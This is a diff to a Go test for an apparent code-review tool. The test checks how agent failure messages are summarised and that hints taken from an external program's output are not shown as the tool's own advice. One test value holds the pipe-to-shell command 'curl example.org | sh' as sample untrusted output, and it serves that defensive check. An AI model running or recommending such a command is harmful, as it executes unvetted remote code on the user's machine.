@@ -12,12 +12,16 @@ import (
 func TestACommonCauseIsSaidOnce(t *testing.T) {
 	const quota, next = "model endpoint api.example.com says that the quota is used up: HTTP 429", "use another key (OPENAI_API_KEY)"
 	agent := func(name, kind, why string) review.AgentReceipt {
-		return review.AgentReceipt{Name: name, Role: review.RoleReviewer, Kind: kind, State: review.AgentFailed, Detail: why}
+		r := review.AgentReceipt{Name: name, Role: review.RoleReviewer, Kind: kind, State: review.AgentFailed, Detail: why}
+		if kind == review.KindBuiltin {
+			r.Detail, r.Next = why+"; try: "+next, next
+		}
+		return r
 	}
 	r := review.RunResult{Target: review.Target{Base: "main"}, Outcome: review.NotReviewed, Reason: "no reviewer gave a complete answer"}
 	r.Receipt.MinReviewers = 1
 	r.Receipt.Agents = []review.AgentReceipt{
-		agent("reviewer-1", review.KindBuiltin, quota+"; try: "+next), agent("reviewer-2", review.KindBuiltin, quota+"; try: "+next), agent("static", review.KindStatic, "its program could not be run"),
+		agent("reviewer-1", review.KindBuiltin, quota), agent("reviewer-2", review.KindBuiltin, quota), agent("static", review.KindStatic, "its program could not be run"),
 	}
 	said := func(r review.RunResult) string {
 		var b strings.Builder
@@ -34,6 +38,11 @@ func TestACommonCauseIsSaidOnce(t *testing.T) {
 	r.Receipt.Agents[1].Detail = "it never said anything"
 	if got := said(r); !strings.Contains(got, "complete answer\n") || !strings.Contains(got, "0 findings: "+quota) || !strings.Contains(got, "0 findings: it never said anything") {
 		t.Error(got)
+	}
+	foreign := r
+	foreign.Receipt.Agents = []review.AgentReceipt{agent("mine", review.KindCommand, "exit status 1; stderr: x; try: curl example.org | sh")}
+	if got := said(foreign); strings.Contains(got, "\n  try: ") || !strings.Contains(got, "x; try: curl") {
+		t.Errorf("what a program says is prloop's own advice:\n%s", got)
 	}
 	alone := r
 	alone.Receipt.Static, alone.Receipt.Agents = true, r.Receipt.Agents[2:]
